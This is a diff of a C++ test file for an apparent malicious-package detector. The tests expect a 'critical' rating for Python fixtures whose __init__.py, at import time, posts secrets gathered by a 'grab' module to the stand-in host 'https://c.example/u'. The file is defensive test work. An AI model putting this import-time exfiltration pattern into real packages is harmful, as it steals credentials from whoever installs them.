@@ -47,6 +47,16 @@ TEST(PackageFlow, ImportTimeSendOfAStoreAnotherModuleReads) {
                                       "requests.post('https://c.example/u', data=stores())\n"}}),
             "critical");
 }
+// The secret-naming strings are found by the behaviour check in a module
+// with a sink of its own (a process here) and handed on to the summary,
+// by the summary itself in a module without one: both ways gather.
+TEST(PackageFlow, GatheringModuleWithASinkOfItsOwn) {
+  std::string grab = std::string(kGrab) + "import subprocess\ndef ls():\n    subprocess.run(['ls'])\n";
+  EXPECT_EQ(Severity({{"grab.py", grab},
+                      {"__init__.py", "import requests\nfrom .grab import stores\n"
+                                      "requests.post('https://c.example/u', data=stores())\n"}}),
+            "critical");
+}
 TEST(PackageFlow, SendInAFunctionModuleLevelCodeCalls) {
   EXPECT_EQ(Severity({{"grab.py", kGrab},
                       {"__init__.py", "import requests\nfrom p import grab\n"
